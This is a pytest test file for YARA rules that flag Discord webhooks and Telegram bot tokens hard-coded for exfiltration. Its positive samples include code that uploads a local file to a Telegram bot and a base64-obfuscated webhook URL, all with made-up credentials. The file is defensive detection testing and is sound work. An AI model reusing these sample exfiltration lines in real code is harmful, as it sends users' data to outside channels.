"""rules/yara/exfil/exfil.yar: hard-coded Discord webhooks and Telegram bot tokens.

The "credentials" below are made up: ids of repeated digits, tokens of
repeated letters.
"""

from __future__ import annotations

import base64

import pytest
from yara_builders import params

FAKE_HOOK = "https://discord.com/api/webhooks/" + "1" * 18 + "/" + "Ab3_-" * 13 + "xyz"
FAKE_BOT_TOKEN = "123456789:AA" + "b" * 33

WEBHOOK_POST = f"""import requests
WEBHOOK = "{FAKE_HOOK}"
requests.post(WEBHOOK, json={{"content": "hello"}})
"""

WEBHOOK_B64 = "h = __import__('base64').b64decode('{}')\n".format(
    base64.b64encode(b"https://discord.com/api/webhooks/" + b"2" * 18 + b"/" + b"c" * 68).decode())

TELEGRAM_SEND = f"""import requests
TOKEN = "{FAKE_BOT_TOKEN}"
requests.post(f"https://api.telegram.org/bot{{TOKEN}}/sendDocument",
              data={{"chat_id": 1}}, files={{"document": open("report.txt", "rb")}})
"""

TELEGRAM_URL_TOKEN = f'URL = "https://api.telegram.org/bot{FAKE_BOT_TOKEN}/sendMessage?chat_id=1&text=hi"\n'

WEBHOOK_LIB = """class DiscordWebhook:
    URL = "https://discord.com/api/webhooks/{webhook_id}/{webhook_token}"
    def __init__(self, webhook_id, webhook_token):
        self.url = self.URL.format(webhook_id=webhook_id, webhook_token=webhook_token)
"""

WEBHOOK_DOCS = "Example: DiscordWebhook(url='https://discord.com/api/webhooks/123456/abcdef')\n"

TELEGRAM_LIB = """class Bot:
    base_url = "https://api.telegram.org/bot{token}/"
    def send_message(self, chat_id, text):
        return self._post("sendMessage", chat_id=chat_id, text=text)
"""

# the sample token from the Bot API documentation
TELEGRAM_DOCS = 'bot = Bot("123456:ABC-DEF1234ghIkl-zyx57W2v1u123ew11")  # api.telegram.org/bot sendMessage\n'

POSITIVE = {
    "discord_webhook_url": [
        ("literal", lambda: WEBHOOK_POST),
        ("base64", lambda: WEBHOOK_B64),
    ],
    "telegram_bot_exfil": [
        ("token-variable", lambda: TELEGRAM_SEND),
        ("token-in-url", lambda: TELEGRAM_URL_TOKEN),
    ],
}

BENIGN = {
    "discord_webhook_url": [
        ("library-template", lambda: WEBHOOK_LIB),
        ("docs-placeholder", lambda: WEBHOOK_DOCS),
    ],
    "telegram_bot_exfil": [
        ("library", lambda: TELEGRAM_LIB),
        ("docs-token", lambda: TELEGRAM_DOCS),
    ],
}


@pytest.mark.parametrize(("rule", "build"), params(POSITIVE))
def test_fires(fired, rule, build):
    assert rule in fired(build())


@pytest.mark.parametrize(("rule", "build"), params(BENIGN))
def test_quiet(fired, rule, build):
    assert rule not in fired(build())
